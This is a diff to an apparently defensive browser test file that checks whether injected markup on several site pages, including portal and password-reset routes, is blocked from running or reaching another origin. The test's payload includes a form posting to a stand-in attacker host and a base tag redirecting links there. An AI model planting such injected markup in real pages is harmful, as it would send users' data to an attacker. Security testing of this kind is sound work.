@@ -22,7 +22,14 @@ const markup = `
   <form action="https://attacker.example/collect"><button id="send">Send</button></form>
   <base href="https://attacker.example/">`;
 
-for (const path of [...publicPaths, portalRoutes.portal, portalRoutes.forgotPassword]) {
+// One page of each policy: tests/site/headers.test.ts compares the policies of all pages.
+for (const path of [
+  "/",
+  "/boroughs/camden",
+  "/no-such-page",
+  portalRoutes.portal,
+  portalRoutes.forgotPassword,
+]) {
   test(`injected code in ${path} neither runs nor reaches another origin`, async ({ page, baseURL }) => {
     const reached: string[] = [];
     await page.route("https://attacker.example/**", (route) => {
